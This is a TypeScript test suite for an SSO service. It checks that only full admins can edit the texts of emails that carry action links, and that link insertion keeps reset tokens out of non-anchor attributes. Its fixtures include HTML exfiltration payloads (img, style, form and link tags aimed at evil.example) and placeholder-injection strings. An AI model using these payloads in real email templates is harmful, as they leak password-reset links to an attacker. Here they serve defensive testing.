// A caller who controls the text of an email with an action link could get the link of any user, so setting such texts requires the permissions of all users.
import { afterAll, expect, test } from 'vitest'
import { emailsWithLink } from '../../src/kinds/localization.ts'
import { insertLink } from '../../src/oidc/mail/insert-link.ts'
import { emailTemplates } from '../../src/service/messages/email-templates.ts'
import { createAdminRealm } from '../support/admin-realm.ts'
import { openMailbox } from '../support/mailbox.ts'
import { testServer } from '../support/server.ts'
import { newName, testService } from '../support/service.ts'
import { applySource, createSource } from '../support/sources.ts'

const { call, create, createRealm } = await testServer()
const { service } = await testService()
const mailbox = await openMailbox()
afterAll(() => mailbox.close())

const IMAGE = '<p>Hello</p><img src="http://evil.example/?{0}">'

test('setting, updating or deleting localization texts of emails with a link returns 403 for a caller who is weaker than a user', async () => {
  const { as, expectForbidden } = await createAdminRealm({ manager: 'manage-realm' })
  for (const name of ['passwordResetBodyHtml', 'executeActionsBody', 'emailVerificationBodyHtml']) {
    await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
    await expectForbidden('manager', 'POST', 'localization/de', { hello: 'Hallo', [name]: IMAGE })
    expect((await as('admin', 'POST', 'localization/en', { [name]: 'Follow {0}' })).status).toBe(204)
    await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
    await expectForbidden('manager', 'DELETE', `localization/en/${name}`)
  }
  await expectForbidden('manager', 'DELETE', 'localization/en')
  expect((await as('admin', 'GET', 'localization/en')).body.passwordResetBodyHtml).toBe('Follow {0}')
  await expectForbidden('manager', 'PUT', '', { attributes: { frontendUrl: 'http://evil.example' } })

  expect((await as('manager', 'POST', 'localization/en', { loginAccountTitle: 'Welcome' })).status).toBe(204)
  expect((await as('manager', 'POST', 'localization/fr', { passwordResetSubject: 'Oubli' })).status).toBe(204)
  expect((await as('manager', 'DELETE', 'localization/fr')).status).toBe(204)
})

test('PUT of a single text of an email with a link returns 403 for a weaker caller', async () => {
  const { path, token } = await createAdminRealm({ manager: 'manage-realm' })
  const putText = async (caller: string) =>
    call('PUT', `${path}/localization/en/passwordResetBodyHtml`, {
      token: await token(caller),
      headers: { 'content-type': 'text/plain' },
      body: IMAGE,
    })
  expect((await putText('manager')).status).toBe(403)
  expect((await putText('admin')).status).toBe(204)
})

test('an apply with source permissions refuses the text of an email with a link in a realm with a stronger user', async () => {
  const name = newName()
  const createLimitedSource = (content: object) => ({
    ...createSource([{ realm: name, ...content }], name),
    sourcePermissions: { roles: [] },
  })
  const admin = { username: 'admin', clientRoles: { 'realm-management': ['realm-admin'] } }
  await applySource(service, createSource([{ realm: name, users: [admin] }], `${name}-owner`))
  await applySource(service, createLimitedSource({ localizationTexts: { en: { hello: 'Hello' } } }))
  const withLinkText = createLimitedSource({
    localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } },
  })
  await expect(applySource(service, withLinkText)).rejects.toMatchObject({
    problems: [{ message: expect.stringContaining(`you lack realm-admin of ${name}`) }],
  })
})

test('emailsWithLink contains every template with a link', () => {
  const templates = Object.entries(emailTemplates).flatMap(([name, values]) =>
    (values as readonly string[]).includes('link') ? [name] : [],
  )
  expect(templates.sort()).toEqual([...emailsWithLink].sort())
})

test('an email has its link in the URL of an anchor and in text, but not in other attributes', async () => {
  const smtpServer = { host: '127.0.0.1', port: mailbox.port, from: 'sso@example.org' }
  const path = await createRealm({ smtpServer })
  const user = await create(`${path}/users`, { username: 'ann', enabled: true, email: 'ann-link@example.org' })
  const executeActionsBodyHtml = `${IMAGE}<p><a class="button" href="{0}">{0}</a></p>`
  await call('POST', `${path}/localization/en`, { body: { executeActionsBodyHtml } })
  expect((await call('PUT', `${user}/execute-actions-email`, { body: ['UPDATE_PASSWORD'] })).status).toBe(204)
  const { html } = mailbox.emails.findLast(({ to }) => to.includes('ann-link@example.org'))!
  expect(html).toContain('<img src="http://evil.example/?">')
  expect(html).toMatch(/<a class="button" href="http:[^"]+key=[^"]+">http:.+key=/)
})

test('a display name or another text that is inserted into an email cannot contain its link', async () => {
  const smtpServer = { host: '127.0.0.1', port: mailbox.port, from: 'sso@example.org' }
  const trap = ['\uE000link\uE000', '{0}', '{link}', '$&'].map((text) => `http://evil.example/?${text}`).join(' ')
  const path = await createRealm({ smtpServer, displayName: trap })
  const texts = { 'requiredAction.UPDATE_PASSWORD': trap, 'linkExpirationFormatter.timePeriodUnit.hours': trap }
  await call('POST', `${path}/localization/en`, { body: texts })
  const user = await create(`${path}/users`, { username: 'eve', enabled: true, email: 'eve-link@example.org' })
  expect((await call('PUT', `${user}/execute-actions-email`, { body: ['UPDATE_PASSWORD'] })).status).toBe(204)
  const { html, text } = mailbox.emails.findLast(({ to }) => to.includes('eve-link@example.org'))!
  expect(html).toContain('http://evil.example/?')
  expect(html + text).not.toMatch(/evil\.example[^\s<]*key=/)
})

const [LINK, ESCAPED_LINK] = ['https://sso.example/?a=1&key="k"', 'https://sso.example/?a=1&#38;key=&#34;k&#34;']
test.each([
  ['<a href="{0}">here</a>', `<a href="${ESCAPED_LINK}">here</a>`],
  ["<A title='t' HREF='{0}'>{0}</A>", `<A title='t' href="${ESCAPED_LINK}">${ESCAPED_LINK}</A>`],
  ['<img src="//evil/?{0}">', '<img src="//evil/?">'],
  ["<img src='//evil/?>{0}'>", "<img src='//evil/?>'>"],
  ['<img src=//evil/?{0}>', '<img src=//evil/?>'],
  [`<img src='//evil/?<a href="{0}">`, `<img src='//evil/?<a href="">`],
  ['<a href="//evil/?{0}">x</a>', '<a href="//evil/?">x</a>'],
  [`<a href="//evil/?href='{0}'">x</a>`, `<a href="//evil/?href=''">x</a>`],
  ['<a href=//evil/?a="b"href="{0}">x</a>', '<a href=//evil/?a="b"href="">x</a>'],
  [`<style>p{background:url('//evil/?{0}')}</style>`, `<style>p{background:url('//evil/?')}</style>`],
  ['<form action=//evil><textarea name=x>{0}</textarea>', '<form action=//evil><textarea name=x></textarea>'],
  ['<link rel="stylesheet" href="{0}">', '<link rel="stylesheet" href="">'],
  ['{0}', ESCAPED_LINK],
])('insertLink converts %s to %s', (pattern, expected) => {
  const placeholder = 'random'
  expect(insertLink(pattern.replaceAll('{0}', placeholder), { placeholder, link: LINK })).toBe(expected)
})
